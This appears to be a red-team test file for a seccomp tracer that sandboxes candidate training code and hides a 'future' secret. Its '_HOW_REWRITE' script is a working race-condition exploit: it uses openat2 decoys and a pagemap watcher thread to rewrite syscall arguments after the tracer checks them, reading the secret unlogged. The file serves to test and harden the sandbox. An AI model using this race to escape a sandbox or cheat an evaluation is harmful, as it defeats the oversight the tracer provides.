"""Red-team attacks on "no read-open is let go on unseen" (seccomp_trace.c, ``pin``, ``open_row``).

The tracer answers each read-open of a phase's program itself (pins the file its walk reached,
or answers the kernel's error) or lets it go on (CONTINUE) with an ``unpinned`` row, a finding:
after CONTINUE the kernel reads the call's arguments from the caller's memory again, and a
second thread can rewrite them once it sees the tracer's read (the first touch of a dropped page
in ``/proc/self/pagemap``). Each attack below is a candidate's train code in the real sandbox
under the compiled tracer, over a task repository whose ``future`` branch holds
``FUTURE_SECRET_42`` (its loose object's path in ``obj.txt``, written from outside the box):
(1) an open let go on with no row, (2) the tracer handing over what the kernel would refuse the
caller (the confused deputy), (3) an honest program told something the kernel would not tell it
(a control with pinning off, ``EVOTREE_TRACE_PIN=off``, gives the kernel's answer), (4) the
tracer worn out.

An attack that works is a strict xfail asserting the safe outcome (its reason says how it
works); one that is stopped is a passing test asserting it is stopped.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from test_redteam_gym_trace import SECRET, _flagged, _safe
from test_redteam_trace_deputy import _OPENS, _differs, _lines, _run
from test_redteam_trace_deputy import seccomp as seccomp  # noqa: F401 - the fixture
from test_redteam_trace_own_links_redteam import _LEAK, _future_object

from evotree.harness.audit.trace import TRACE_FILE


def _works(reason: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, raises=AssertionError, reason=reason)


def _rows(tmp_path: Path) -> list[dict]:
    """The trace's open rows."""
    text = (tmp_path / "evidence" / TRACE_FILE).read_text()
    return [r for r in map(json.loads, text.splitlines()) if r.get("kind") == "open"]


# ------------------------------------------------ (1) an open let go on with no row

#: openat2 with the path on one page and its open_how on the next (a memfd mapping, both pages
#: dropped before each try): the decoy is an open the tracer does not answer (DECOY_FLAGS: not a
#: read); a thread waits for the tracer's read of the open_how page, then writes the object's
#: path and an open_how of O_RDONLY. The kernel copies both again after CONTINUE.
_HOW_REWRITE = """\
import ctypes, mmap, threading
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
target = os.path.join(work, obj).encode() + b"\\0"
open("decoy", "w").write("decoy")
os.makedirs("decoydir", exist_ok=True)
decoy = {decoy} + b"\\0"
mfd = os.memfd_create("path")
os.ftruncate(mfd, 8192)
mm = mmap.mmap(mfd, 8192, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
path_at = ctypes.addressof(ctypes.c_char.from_buffer(mm))
how_at = path_at + 4096
pagemap = os.open("/proc/self/pagemap", os.O_RDONLY)
def present():
    return int.from_bytes(os.pread(pagemap, 8, how_at // 4096 * 8), "little") >> 63
armed = threading.Event()
def watch():
    while True:
        armed.wait()
        while armed.is_set() and not present():
            pass
        if armed.is_set():
            present()
            ctypes.memmove(path_at, target, len(target))
            ctypes.memmove(how_at, os.O_RDONLY.to_bytes(8, "little") + bytes(16), 24)
            armed.clear()
threading.Thread(target=watch, daemon=True).start()
for tries in range(1, {tries} + 1):
    ctypes.memmove(path_at, b"\\0" * 4096, 4096)
    ctypes.memmove(path_at, decoy, len(decoy))
    ctypes.memmove(how_at, ({flags}).to_bytes(8, "little") + (0o600).to_bytes(8, "little")
                   + bytes(8), 24)
    mm.madvise(mmap.MADV_DONTNEED)
    armed.set()
    fd = libc.syscall(437, -100, ctypes.c_void_p(path_at), ctypes.c_void_p(how_at), 24)
    armed.clear()
    try:
        data = os.read(fd, 4096) if fd >= 0 else b""
    except OSError:
        data = b""
    if fd >= 0:
        os.close(fd)
    for made in ("made", "made2"):
        if os.path.exists(made):
            os.unlink(made)
    try:
        print("attack OK", zlib.decompress(data).decode("latin1").replace("\\x00", " "))
        break
    except zlib.error:
        pass
print("tries", tries)
"""

#: name: (decoy path, decoy flags): openat2 opens the tracer lets go on with no row (no read)
_HOW_DECOYS = {
    "o-path": ('b"decoy"', "os.O_PATH"),
    "write-only": ('b"decoy"', "os.O_WRONLY"),
    "creat-excl": ('b"made"', "os.O_RDONLY | os.O_CREAT | os.O_EXCL"),
    "tmpfile": ('b"decoydir"', "os.O_RDWR | os.O_TMPFILE"),
}


@pytest.mark.heavy
@pytest.mark.parametrize("name", sorted(_HOW_DECOYS))
@_works(
    "openat2's open_how is read by the tracer and again by the kernel after CONTINUE: a decoy "
    "open that is no read (O_PATH, O_WRONLY, O_CREAT|O_EXCL, O_TMPFILE) is let go on with no "
    "row, and a thread that sees the tracer's read of the open_how's page (pagemap) writes "
    "O_RDONLY there and the object's path over the decoy's: the kernel opens the future object "
    "to read, unseen (won in 1-5 tries)"
)
def test_openat2_flags_rewritten_after_the_tracers_read(
    tmp_path: Path, seccomp: None, name: str
) -> None:
    decoy, flags = _HOW_DECOYS[name]
    script = _LEAK + _HOW_REWRITE.format(decoy=decoy, flags=flags, tries=150)
    proc, audit = _run(tmp_path, script, _future_object, timeout=240)
    if "tries" not in _lines(proc):  # the attack did not run: not a pass
        pytest.fail(proc.stdout + proc.stderr[-2000:])
    _safe(proc, audit)
